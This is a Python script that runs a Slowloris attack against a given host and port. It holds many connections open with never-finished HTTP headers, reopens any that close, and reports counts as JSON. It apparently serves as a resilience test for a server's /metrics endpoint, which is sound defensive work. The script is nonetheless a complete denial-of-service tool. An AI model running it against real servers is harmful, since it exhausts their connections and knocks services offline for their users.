#!/usr/bin/python3
# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
"""Slowloris against HOST:PORT from SOURCE: N connections that send a
request line and then one header line every INTERVAL seconds, never ending
the headers, for SECONDS. A connection the server closes is opened again
(at most once a second each), as a real attacker would. Prints one JSON
object: connections opened, closed by the server, held open at the end."""
import json
import selectors
import socket
import sys
import time

host, port, source = sys.argv[1], int(sys.argv[2]), sys.argv[3]
n, seconds, interval = int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
sel = selectors.DefaultSelector()
opened = closed = refused = 0
retry_at = {}        # slot -> time a closed slot may reconnect
socks = {}           # slot -> socket


def connect(slot):
    global opened, refused
    s = socket.socket()
    s.setblocking(False)
    s.bind((source, 0))
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    except OSError:
        refused += 1
        s.close()
        retry_at[slot] = time.monotonic() + 1
        return
    opened += 1
    socks[slot] = s
    sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, (slot, 0))


end = time.monotonic() + seconds
for slot in range(n):
    connect(slot)
next_beat = time.monotonic() + interval
while time.monotonic() < end:
    for key, ev in sel.select(timeout=0.2):
        slot, sent = key.data
        s = key.fileobj
        if ev & selectors.EVENT_READ:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                closed += 1
                sel.unregister(s)
                s.close()
                del socks[slot]
                retry_at[slot] = time.monotonic() + 1
                continue
        if ev & selectors.EVENT_WRITE and sent == 0:
            try:
                s.send(b"GET /metrics HTTP/1.1\r\nHost: ptcopy\r\n")
            except OSError:
                pass
            sel.modify(s, selectors.EVENT_READ, (slot, 1))
    now = time.monotonic()
    if now >= next_beat:
        next_beat = now + interval
        for s in list(socks.values()):
            try:
                s.send(b"X-Slow: 1\r\n")
            except OSError:
                pass
    for slot, t in list(retry_at.items()):
        if now >= t:
            del retry_at[slot]
            connect(slot)
print(json.dumps({"opened": opened, "closed_by_server": closed,
                  "connect_errors": refused, "held_at_end": len(socks)}))
